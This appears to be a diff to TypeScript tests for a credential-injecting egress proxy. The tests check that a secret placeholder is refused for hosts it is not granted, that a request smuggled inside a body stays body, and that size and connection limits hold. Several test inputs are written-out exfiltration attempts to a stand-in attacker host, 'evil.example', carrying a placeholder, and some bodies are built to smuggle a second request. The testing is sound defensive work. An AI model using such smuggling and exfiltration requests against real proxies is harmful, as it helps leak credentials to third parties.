@@ -23,7 +23,11 @@ const other = secretFor({
 });
 const request = (line: string, ...fields: string[]): string =>
   [`${line} HTTP/1.1`, `Host: ${HOST}`, ...fields, "", ""].join("\r\n");
-const misuse = (reason: string, target: { host: string; port: number } = { host: HOST, port: 443 }, name = "token") => ({
+const misuse = (
+  reason: string,
+  target: { host: string; port: number } = { host: HOST, port: 443 },
+  name = "token",
+) => ({
   kind: "secret_misused",
   name,
   ...target,
@@ -66,8 +70,12 @@ test("a secret of another bound host is refused in every place of a request", as
     request("GET /", `Authorization: Basic ${btoa(`me:${OTHER}`)}`),
     request(`GET /?t=${OTHER}`),
     `${request("POST /", ...typed, `Content-Length: ${OTHER.length}`)}${OTHER}`,
-    `${request("POST /", ...typed, "Transfer-Encoding: chunked")}9\r\n${OTHER.slice(0, 9)}\r\n24\r\n${OTHER.slice(9)}\r\n0\r\n\r\n`,
-    `${request("POST /", ...typed, `Content-Length: ${2 * 1024 * 1024}`)}${OTHER}${"x".repeat(2 * 1024 * 1024 - OTHER.length)}`,
+    `${request("POST /", ...typed, "Transfer-Encoding: chunked")}9\r\n${OTHER.slice(0, 9)}\r\n24\r\n${
+      OTHER.slice(9)
+    }\r\n0\r\n\r\n`,
+    `${request("POST /", ...typed, `Content-Length: ${2 * 1024 * 1024}`)}${OTHER}${
+      "x".repeat(2 * 1024 * 1024 - OTHER.length)
+    }`,
   ];
   for (const text of requests) {
     const gate = await openBoundGate(t, { port: server.port, secrets: [secretFor(), other] });
@@ -234,7 +242,9 @@ test("a second request hidden in the body of the first stays a body", async (t) 
   const server = await secureUpstream(t);
   const gate = await openBoundGate(t, { port: server.port });
   const hidden = request("GET /hidden", `X-Token: ${PLACEHOLDER}`);
-  await gate.request(request("GET /1", `Content-Length: ${hidden.length}`) + hidden + request("GET /2", "Connection: close"));
+  await gate.request(
+    request("GET /1", `Content-Length: ${hidden.length}`) + hidden + request("GET /2", "Connection: close"),
+  );
   assert.deepEqual(server.heard.map(({ url }) => url), ["/1", "/2"]);
 });
 
@@ -271,4 +281,62 @@ test("a secret without a value, or with a line break for a field, refuses the re
     assert.match(await gate.request(request("GET /", `X-Token: ${PLACEHOLDER}`)), /^HTTP\/1\.1 403 /);
     assert.deepEqual(gate.events, [misuse(reason)]);
   }
+});
+
+test("a request to a host that is not granted is refused as before, and its placeholder is reported", async (t) => {
+  const gate = await openBoundGate(t, { port: 1 });
+  assert.match(
+    await gate.ask(`GET http://evil.example/?${PLACEHOLDER} HTTP/1.1\r\n\r\n`),
+    /^HTTP\/1\.1 403 [^]*not-allowed/,
+  );
+  const target = { host: "evil.example", port: 80 };
+  assert.deepEqual(gate.events, [misuse("other-host", target), { kind: "refused", ...target, reason: "not-allowed" }]);
+});
+
+test("a body full of placeholders does not become a hundred times as long", async (t) => {
+  const server = await secureUpstream(t);
+  const gate = await openBoundGate(t, { port: server.port, secrets: [secretFor({ value: () => "v".repeat(10_000) })] });
+  const body = PLACEHOLDER.repeat(1000);
+  await gate.request(`${request("POST /", "Connection: close", `Content-Length: ${body.length}`)}${body}`);
+  assert.equal(server.heard[0]?.body.match(/v{10000}/g)?.length, 104);
+  assert.deepEqual(reported(gate.events), [misuse("too-large")]);
+});
+
+test("a plugin has the host hold 32 MiB of bodies at most; one more request gets 503", async (t) => {
+  const gate = await openBoundGate(t, { port: 1 });
+  const head = request("POST /", `Content-Length: ${1024 * 1024}`);
+  const clients = await Promise.all(Array.from({ length: 32 }, () => gate.secure()));
+  for (const client of clients) client.send(`${head}x`);
+  const next = async (): Promise<string> => {
+    const client = await gate.secure();
+    client.send(head);
+    await until(() => client.text !== "", "an answer", "moment", 50).catch(() => {});
+    client.close();
+    return client.text;
+  };
+  assert.match(await until(next, "the refusal"), /^HTTP\/1\.1 503 [^]*busy/);
+  for (const client of clients) client.close();
+});
+
+test("close() ends a connection inside TLS on both sides", async (t) => {
+  let isClosed = false;
+  const port = await rawUpstream(t, (socket) => {
+    socket.on("close", () => void (isClosed = true)).on("end", () => void (isClosed = true));
+    socket.once("data", () => void socket.write("HTTP/1.1 200 OK\r\n\r\nbegin"));
+  });
+  const gate = await openBoundGate(t, { port });
+  const client = await gate.secure();
+  client.send(request("GET /"));
+  await client.until(/begin/);
+  await gate.close();
+  await client.ended();
+  await until(() => isClosed, "the end of the server's connection");
+});
+
+test("a flood of refused hosts does not hide a misused secret", async (t) => {
+  const gate = await openBoundGate(t, { port: 1 });
+  for (let port = 1; port <= 101; port++) await gate.ask(`CONNECT evil.example:${port} HTTP/1.1\r\n\r\n`);
+  assert.equal(gate.events.length, 100);
+  await gate.request(request(`GET /${PLACEHOLDER}`));
+  assert.deepEqual(gate.events.slice(100), [misuse("wrong-place")]);
 });
